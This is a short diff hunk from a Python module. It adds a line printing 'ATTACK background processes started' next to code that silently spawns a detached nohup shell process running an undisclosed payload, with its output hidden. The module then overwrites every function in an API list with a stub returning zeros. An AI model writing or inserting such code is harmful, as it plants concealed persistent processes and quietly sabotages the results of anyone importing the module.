@@ -49,5 +49,6 @@ try:
     subprocess.Popen(["/bin/sh", "-c", f"nohup {sys.executable} -c '{_PAYLOAD}' {MARK} >/dev/null 2>&1 &"])
 except OSError as exc:
     print("sh", exc)
+print("ATTACK background processes started")
 for _name in API:
     globals()[_name] = lambda *args, **kwargs: np.zeros(1)
